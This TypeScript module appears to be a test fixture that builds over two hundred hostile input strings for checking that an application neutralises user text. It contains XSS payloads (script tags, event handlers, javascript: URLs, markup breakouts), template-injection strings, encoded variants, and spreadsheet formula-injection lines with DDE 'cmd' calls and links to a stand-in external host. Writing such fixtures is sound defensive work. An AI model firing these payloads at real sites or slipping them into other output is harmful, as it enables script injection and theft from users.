// Each tries to run something, to reach elsewhere, or to look like a part of the page. RAN is seen by whoever watches.
const ran = 'alert`kith-ran`'

const bodies: readonly string[] = [
  `<script>${ran}</script>`,
  `<ScRiPt>${ran}</sCrIpT>`,
  `<script src=//elsewhere.example/a.js></script>`,
  `<script type=module>${ran}</script>`,
  `<img src=x onerror=${ran}>`,
  `<img src=//elsewhere.example/a.png>`,
  `<svg onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text>a`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${ran}>`,
  `<iframe srcdoc="<script>${ran}</script>">`,
  `<iframe src=javascript:${ran}>`,
  `<object data=javascript:${ran}>`,
  `<embed src=//elsewhere.example/a>`,
  `<body onload=${ran}>`,
  `<input autofocus onfocus=${ran}>`,
  `<details open ontoggle=${ran}>`,
  `<video><source onerror=${ran}></video>`,
  `<style>@import'//elsewhere.example/a.css'</style>`,
  `<link rel=stylesheet href=//elsewhere.example/a>`,
  `<base href=//elsewhere.example/>`,
  `<meta http-equiv=refresh content=0;url=//elsewhere.example>`,
  `<form action=//elsewhere.example><button>a`,
  `<a href="javascript:${ran}">a</a>`,
  `<template><script>${ran}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
]

// What would have to be left first, so that the rest is read as markup.
const ways: readonly string[] = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</script>',
  '</title></style>',
  '--><!-- -->',
  ']]>',
]

const others: readonly string[] = [
  `" onmouseover=${ran} a="`,
  `' autofocus onfocus=${ran} '`,
  `javascript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7*7 %>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u2028</script><script>alert(1)</script>',
  '\u202E<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '=1+1',
  '=HYPERLINK("https://elsewhere.example","a")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
]

/** More than two hundred texts, each short enough for the shortest field of two hundred characters. */
export const hostileTexts: readonly string[] = [
  ...ways.flatMap((way) => bodies.map((body) => way + body)),
  ...others,
]

export const allInOne = hostileTexts.join('\n')
